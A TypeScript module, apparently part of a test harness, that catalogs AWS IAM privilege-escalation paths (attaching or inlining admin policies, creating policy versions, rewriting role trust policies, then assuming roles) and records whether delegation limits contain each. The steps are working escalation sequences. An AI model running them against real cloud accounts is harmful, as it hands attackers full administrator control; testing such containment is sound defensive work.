import type { House } from './house.ts';
import {
  type Attacker,
  administratorAccess,
  allow,
  document,
  everything,
  type Method,
  trust,
} from './method.ts';

const photoAppRole = 'role/delegated/PhotoAppRole';

/** Those who widen a role that they may assume, or come to assume one that is wide. */
export const roleMethods: readonly Method[] = [
  {
    name: 'AttachRolePolicy, then AssumeRole',
    rhino: 9,
    pathfinding: ['iam-014'],
    needs: ({ arn }) => [
      allow('iam:AttachRolePolicy', arn(photoAppRole)),
      allow('sts:AssumeRole', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps({ call, assume }) {
      await call('iam', 'AttachRolePolicy', toPhotoAppRole);
      return await assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'PutRolePolicy, then AssumeRole',
    rhino: 12,
    pathfinding: ['iam-017'],
    needs: ({ arn }) => [
      allow('iam:PutRolePolicy', arn(photoAppRole)),
      allow('sts:AssumeRole', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps({ call, assume }) {
      await call('iam', 'PutRolePolicy', onPhotoAppRole);
      return await assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'CreatePolicyVersion, then AssumeRole',
    pathfinding: ['iam-016'],
    needs: ({ arn }) => [
      allow('iam:CreatePolicyVersion', arn('policy/PhotoAppWork')),
      allow('sts:AssumeRole', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps(attacker) {
      await widenPhotoAppWork(attacker);
      return await attacker.assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'UpdateAssumeRolePolicy, then AssumeRole',
    rhino: 14,
    needs: ({ arn }) => [
      allow('iam:UpdateAssumeRolePolicy', arn('role/AdminRole')),
      allow('sts:AssumeRole', arn('role/AdminRole')),
    ],
    async steps({ call, assume, house }) {
      const PolicyDocument = trust(house.arn('root'));
      await call('iam', 'UpdateAssumeRolePolicy', { RoleName: 'AdminRole', PolicyDocument });
      return await assume('role/AdminRole');
    },
    delegated: 'refused',
  },
  {
    name: 'UpdateAssumeRolePolicy that names the attacker',
    pathfinding: ['iam-012'],
    // Whom the trust policy names needs no `sts:AssumeRole`.
    needs: ({ arn }) => [allow('iam:UpdateAssumeRolePolicy', arn('role/AdminRole'))],
    async steps(attacker) {
      await nameInTrust(attacker, 'AdminRole');
      return await attacker.assume('role/AdminRole');
    },
    delegated: 'refused',
  },
  {
    name: 'AttachRolePolicy and UpdateAssumeRolePolicy',
    pathfinding: ['iam-019'],
    needs: ({ arn }) => [
      allow('iam:AttachRolePolicy', arn(photoAppRole)),
      allow('iam:UpdateAssumeRolePolicy', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps(attacker) {
      await attacker.call('iam', 'AttachRolePolicy', toPhotoAppRole);
      await nameInTrust(attacker, 'PhotoAppRole');
      return await attacker.assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'CreatePolicyVersion and UpdateAssumeRolePolicy',
    pathfinding: ['iam-020'],
    needs: ({ arn }) => [
      allow('iam:CreatePolicyVersion', arn('policy/PhotoAppWork')),
      allow('iam:UpdateAssumeRolePolicy', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps(attacker) {
      await widenPhotoAppWork(attacker);
      await nameInTrust(attacker, 'PhotoAppRole');
      return await attacker.assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'PutRolePolicy and UpdateAssumeRolePolicy',
    pathfinding: ['iam-021'],
    needs: ({ arn }) => [
      allow('iam:PutRolePolicy', arn(photoAppRole)),
      allow('iam:UpdateAssumeRolePolicy', arn(photoAppRole)),
    ],
    furnish: createPhotoAppRole,
    async steps(attacker) {
      await attacker.call('iam', 'PutRolePolicy', onPhotoAppRole);
      await nameInTrust(attacker, 'PhotoAppRole');
      return await attacker.assume(photoAppRole);
    },
    delegated: 'contained',
  },
  {
    name: 'AttachRolePolicy to the role one works as',
    pathfinding: ['iam-009'],
    attacker: 'DeveloperRole',
    needs: ({ arn }) => [allow('iam:AttachRolePolicy', arn('role/delegated/DeveloperRole'))],
    async steps({ call, credentials }) {
      const PolicyArn = administratorAccess;
      await call('iam', 'AttachRolePolicy', { RoleName: 'DeveloperRole', PolicyArn });
      return credentials;
    },
    delegated: 'contained',
  },
  {
    name: 'PutRolePolicy on the role one works as',
    pathfinding: ['iam-005'],
    attacker: 'DeveloperRole',
    needs: ({ arn }) => [allow('iam:PutRolePolicy', arn('role/delegated/DeveloperRole'))],
    async steps({ call, credentials }) {
      const policy = { PolicyName: 'all', PolicyDocument: everything };
      await call('iam', 'PutRolePolicy', { RoleName: 'DeveloperRole', ...policy });
      return credentials;
    },
    delegated: 'contained',
  },
  {
    name: 'AssumeRole of a role that trusts the whole account',
    pathfinding: ['sts-001'],
    needs: ({ arn }) => [allow('sts:AssumeRole', arn('role/OperationsRole'))],
    async furnish({ call, arn }) {
      const RoleName = 'OperationsRole';
      const AssumeRolePolicyDocument = trust(arn('root'));
      await call('iam', 'CreateRole', { RoleName, AssumeRolePolicyDocument });
      await call('iam', 'AttachRolePolicy', { RoleName, PolicyArn: administratorAccess });
    },
    steps: ({ assume }) => assume('role/OperationsRole'),
    delegated: 'refused',
  },
];

/** Whoever in the account has `sts:AssumeRole` may; its work is in a policy of its own. */
async function createPhotoAppRole({ call, arn, work }: House): Promise<void> {
  const RoleName = 'PhotoAppRole';
  const AssumeRolePolicyDocument = trust(arn('root'));
  await call('iam', 'CreateRole', { RoleName, Path: '/delegated/', AssumeRolePolicyDocument });
  const PolicyDocument = document(work);
  await call('iam', 'CreatePolicy', { PolicyName: 'PhotoAppWork', PolicyDocument });
  await call('iam', 'AttachRolePolicy', { RoleName, PolicyArn: arn('policy/PhotoAppWork') });
}

const toPhotoAppRole = { RoleName: 'PhotoAppRole', PolicyArn: administratorAccess };
const onPhotoAppRole = {
  RoleName: 'PhotoAppRole',
  PolicyName: 'all',
  PolicyDocument: everything,
};

async function widenPhotoAppWork({ call, house }: Attacker): Promise<void> {
  const PolicyArn = house.arn('policy/PhotoAppWork');
  const version = { PolicyArn, PolicyDocument: everything, SetAsDefault: true };
  await call('iam', 'CreatePolicyVersion', version);
}

async function nameInTrust({ call, principalArn }: Attacker, RoleName: string): Promise<void> {
  const PolicyDocument = trust(principalArn);
  await call('iam', 'UpdateAssumeRolePolicy', { RoleName, PolicyDocument });
}
